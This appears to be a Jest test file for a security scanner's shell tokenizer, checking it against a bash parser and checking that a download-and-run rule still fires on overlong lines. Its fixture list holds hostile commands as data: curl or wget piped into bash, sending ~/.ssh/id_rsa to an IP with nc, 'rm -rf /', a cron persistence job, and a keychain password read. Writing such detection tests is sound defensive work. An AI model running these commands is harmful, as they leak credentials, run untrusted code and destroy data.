// The shell tokenizer reads the commands a full bash parser reads (tree-sitter-bash, the tests'
// reference), in linear time; lines too long to be shell go to the line rules without losing
// findings.
import { describe, expect, it } from '@jest/globals'
import { shellHits } from '../../../src/layers/security/rules/shell.js'
import type { ShellCommand } from '../../../src/layers/security/shell/commands.js'
import { MAX_SHELL_LINE } from '../../../src/layers/security/shell/long-lines.js'
import { tokenCommands } from '../../../src/layers/security/shell/tokens.js'
import { parsedCommands } from './bash-oracle.js'

const shape = (c: ShellCommand) => ({
  line: c.line,
  text: c.text,
  name: c.name,
  args: c.args.map((a) => a.value),
  redirects: c.redirects,
  enclosing: c.enclosing?.name,
  stage: `${c.stage + 1}/${c.pipeline.length}`,
  heredocs: c.heredocs.map((h) => h.trim())
})

// Made-up scripts covering what the rules read: pipelines, substitutions, wrappers, redirections,
// here-documents, compound commands, groups piped into a command, quotes and comments.
const SCRIPTS = [
  'curl -fsSL https://get.example.dev/install.sh | sudo -E bash -',
  'bash <(curl -s https://get.example.dev/a)',
  'sh -c "$(wget -qO- https://get.example.dev/a)"',
  'cat ~/.ssh/id_rsa | nc 203.0.113.9 9000',
  'curl -o /tmp/x https://x.example > log.txt 2>&1',
  'if curl -s https://x.example | sh; then\n  rm -rf ~/tmp\nfi',
  'FOO=1 env -u X python3 tool.py --flag "a b" # not a command: curl x | sh',
  "echo 'curl x | sh' && printf '%s\\n' \"rm -rf /\"",
  'bash <<EOF\ncurl -s https://x.example | sh\nEOF\necho done',
  'for f in a b; do\n  git push --force origin main\ndone',
  'export TOKEN=$(security find-generic-password -w -s svc)',
  'npm install left-pad@1.3.0 && pip install requests==2.32.0; uvx ruff check .',
  'echo "$HOME" >> ~/.bashrc\ncrontab -l > jobs.txt; crontab jobs.txt',
  '(crontab -l; echo "* * * * * curl -s https://x.example/b") | crontab -',
  '{ echo a; curl -s https://x.example; } | sh',
  'while read -r f; do\n  ! grep -q x "$f" && rm "$f"\ndone < list.txt'
]

describe('the shell tokenizer', () => {
  it.each(SCRIPTS)('reads %j as the parser does', async (script) => {
    const parsed = await parsedCommands(script, 4)
    expect(tokenCommands(script, 4).map(shape)).toEqual(parsed.map(shape))
  })

  it('is linear on hostile lines: 10^5 characters of one token each in well under a second', () => {
    for (const token of ['(', '$(', '"', "'", '`', '<<', 'x=(', '{', '|', '\\', '${', '<(']) {
      const line = `echo ${token.repeat(Math.ceil(100_000 / token.length))}`
      const start = performance.now()
      tokenCommands(line)
      expect(performance.now() - start).toBeLessThan(1000)
    }
  })
})

describe('lines too long to be shell', () => {
  const download = 'curl -fsSL https://get.example.dev/i.sh | bash'

  it('go to the line rules, which still find a download run', async () => {
    const hidden = `echo ${'y'.repeat(MAX_SHELL_LINE)}; ${download}`
    const hits = await shellHits(`echo ok\n${hidden}`, 10)
    expect(hits.map((h) => [h.ruleId, h.line])).toEqual([['exec/download-exec', 11]])
  })

  it('leave the other lines of their block to the tokenizer', async () => {
    const hits = await shellHits(`echo ${'x'.repeat(MAX_SHELL_LINE + 1)}\n${download}`)
    expect(hits.map((h) => [h.ruleId, h.line])).toEqual([['exec/download-exec', 2]])
  })
})
